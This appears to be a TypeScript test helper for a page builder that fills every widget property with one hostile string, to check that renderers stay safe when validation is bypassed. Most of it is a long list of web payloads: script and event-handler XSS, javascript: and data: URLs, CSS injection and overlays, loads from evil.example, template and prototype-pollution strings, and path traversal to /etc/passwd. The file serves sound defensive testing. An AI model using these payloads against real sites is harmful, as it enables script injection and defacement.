/** Pages with one hostile string in every property: renderers must be safe even if validation is bypassed. */
import { generateNKeysBetween } from 'fractional-indexing'
import { fillPage, FORMAT_VERSION, type FilledPage, type PageJson, type WidgetJson } from '@schemas'
import { catalogue } from '@schemas/generated/catalogue'
import { resolvedSchemas } from '@schemas/generated/resolved'
import type { LiveData } from '@schemas/page-data'
import type { Schema } from '@schemas/dialect/schema'
import type { Json, JsonObject } from '@schemas/page'
import { serverRegistry } from '@widgets/registry.server'
import { snapshotLive } from '@widgets/shared/snapshot-live'
import { typesOf } from './arbitrary/sample'

/**
 * Which properties contain the string: every text including choices; every text except choices, which alternate, so
 * that each variant and each kind of link occurs; every number, choice and switch as well.
 */
const CARRIAGES = ['texts', 'free texts', 'everything'] as const
type Carriage = (typeof CARRIAGES)[number]

/**
 * One page with three widgets of every type, the completely invalid ones inside free panels that accept them.
 * @param turn index of the second widget's choice
 */
export function hostilePage(text: string, turn: number): { body: FilledPage; live: LiveData } {
  const config = contentOf('W0000', 'texts', text, turn)
  const entries = serverRegistry
    .types()
    .flatMap((type) => CARRIAGES.map((carriage) => [uuidOf(type, carriage, text), type, carriage] as const))
  const orders = generateNKeysBetween(null, null, entries.length)
  const panel = serverRegistry.types().find((type) => catalogue[type]?.children) ?? ''
  const widgets = entries.map(([uuid, type, carriage], index): [string, WidgetJson] => {
    const isInside = carriage === 'everything' && catalogue[panel]?.children?.includes(type)
    const parent = isInside ? uuidOf(panel, 'free texts', text) : null
    const { props, style } = contentOf(type, carriage, text, turn)
    return [uuid, { type, v: 1, parent, order: orders[index] ?? 'a0', props, style, name: text }]
  })
  const page: PageJson = {
    formatVersion: FORMAT_VERSION,
    platform: 'pc',
    page: { v: 1, props: { ...config.props, pageWidth: 1190 } },
    widgets: Object.fromEntries(widgets),
  }
  return { body: fillPage(page), live: snapshotLive(page) }
}

const uuidOf = (type: string, carriage: Carriage, text: string) => `${type} ${carriage} ${text}`

function contentOf(type: string, carriage: Carriage, text: string, turn: number) {
  const carry: Carry = (schema) => {
    if (carriage === 'everything') return text
    const types = typesOf(schema)
    if (types.includes('string')) {
      const choices = schema.enum
      return carriage === 'free texts' && choices ? (choices[turn % choices.length] ?? text) : text
    }
    return types.includes('boolean') ? turn % 2 === 0 : (schema.default ?? schema.minimum ?? 0)
  }
  const { props, style } = resolvedSchemas[type]?.properties ?? {}
  return {
    props: carrying(props ?? {}, carry) as JsonObject,
    style: carrying(style ?? {}, carry) as JsonObject,
  }
}

/** The value at a position that is neither list nor object. */
type Carry = (schema: Schema) => Json

/** A value of the schema's shape: with every property, and at least one item per list. */
function carrying(schema: Schema, carry: Carry): Json {
  const { items, properties } = schema
  if (properties)
    return Object.fromEntries(
      Object.entries(properties).map(([name, inner]) => [name, carrying(inner, carry)]),
    )
  if (Array.isArray(items)) return items.map((item) => carrying(item, carry))
  if (items) return Array.from({ length: Math.max(2, schema.minItems ?? 0) }, () => carrying(items, carry))
  return carry(schema)
}

const ALERT = 'alert(document.domain)'

/** Scripts, invalid addresses, breakouts from attributes, styles and JSON, overlays, Unicode and template tricks. */
export const HOSTILE: readonly string[] = [
  `<script>${ALERT}</script>`,
  `"><script>${ALERT}</script>`,
  `'><img src=x onerror=${ALERT}>`,
  `</script><script>${ALERT}</script>`,
  `</title></style></textarea><script>${ALERT}</script>`,
  `<!--<script>${ALERT}</script>-->`,
  `--><script>${ALERT}</script>`,
  `]]><script>${ALERT}</script>`,
  `<svg onload=${ALERT}>`,
  `<svg><script>${ALERT}</script></svg>`,
  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${ALERT}>`,
  `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<iframe src="javascript:${ALERT}"></iframe>`,
  `<object data="javascript:${ALERT}"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<form action="//evil.example/"><button>`,
  `<style>body{display:none}</style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<details open ontoggle=${ALERT}>`,
  `<input autofocus onfocus=${ALERT}>`,
  `<body onload=${ALERT}>`,
  `<video><source onerror=${ALERT}></video>`,
  `" onmouseover="${ALERT}" x="`,
  `' onfocus='${ALERT}' tabindex='0' autofocus x='`,
  `\` onclick=\`${ALERT}\``,
  `x onerror=${ALERT} src=//evil.example/`,
  `javascript:${ALERT}`,
  `JaVaScRiPt:${ALERT}`,
  ` javascript:${ALERT}`,
  `\u0001javascript:${ALERT}`,
  `java\tscript:${ALERT}`,
  `java\nscript:${ALERT}`,
  `java\u0000script:${ALERT}`,
  `\u00A0javascript:${ALERT}`,
  `\uFEFFjavascript:${ALERT}`,
  `javascript&colon;${ALERT}`,
  `&#106;avascript:${ALERT}`,
  `javascript://evil.example/%0a${ALERT}`,
  `feed:javascript:${ALERT}`,
  `view-source:javascript:${ALERT}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${ALERT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ALERT}"/>`,
  `blob:https://evil.example/0`,
  `file:///etc/passwd`,
  `filesystem:https://evil.example/temporary/x`,
  `//evil.example/x.png`,
  `/\\evil.example/x.png`,
  `\\\\evil.example\\x.png`,
  `/\t/evil.example/x.png`,
  `///evil.example/x.png`,
  `https:evil.example/x.png`,
  `https:\\\\evil.example\\x.png`,
  `\u2028//evil.example/x.png`,
  `url(javascript:${ALERT})`,
  `url(//evil.example/x.png)`,
  `#fff;background:url(//evil.example/x.png)`,
  `red;}body{display:none}`,
  `#fff}*{position:fixed!important;inset:0}`,
  `expression(${ALERT})`,
  `-moz-binding:url(//evil.example/x.xml#x)`,
  `var(--theme,url(//evil.example/x.png))`,
  `#fff;position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647`,
  `position:fixed;inset:0;z-index:9999999;background:red`,
  `100%;position:fixed;inset:0`,
  `image-set("//evil.example/x.png" 1x)`,
  `") no-repeat, url("//evil.example/x.png`,
  `'), url('//evil.example/x.png`,
  `\\22\\29;background:url(//evil.example/x.png)`,
  `/*`,
  `*/}body{display:none}/*`,
  `@import url(//evil.example/x.css);`,
  `{{constructor.constructor('${ALERT}')()}}`,
  `\${${ALERT}}`,
  `#{${ALERT}}`,
  `<%= ${ALERT} %>`,
  `__proto__`,
  `constructor`,
  `prototype`,
  `toString`,
  `hasOwnProperty`,
  `dangerouslySetInnerHTML`,
  `{"__html":"<script>${ALERT}</script>"}`,
  `{"$$typeof":"Symbol(react.element)"}`,
  `\u202Egnp.live\u202C`,
  `\uD800`,
  `\uDC00\uD800`,
  `a\u0000b`,
  `ʼ＜script＞${ALERT}＜/script＞`,
  `％3Cscript％3E`,
  `%3Cscript%3E${ALERT}%3C/script%3E`,
  `%`,
  `%E0%A4%A`,
  `?x=1&y=<script>${ALERT}</script>#"><script>`,
  `../../../../etc/passwd`,
  `NaN`,
  `-1`,
  `1e999`,
  `[object Object]`,
]
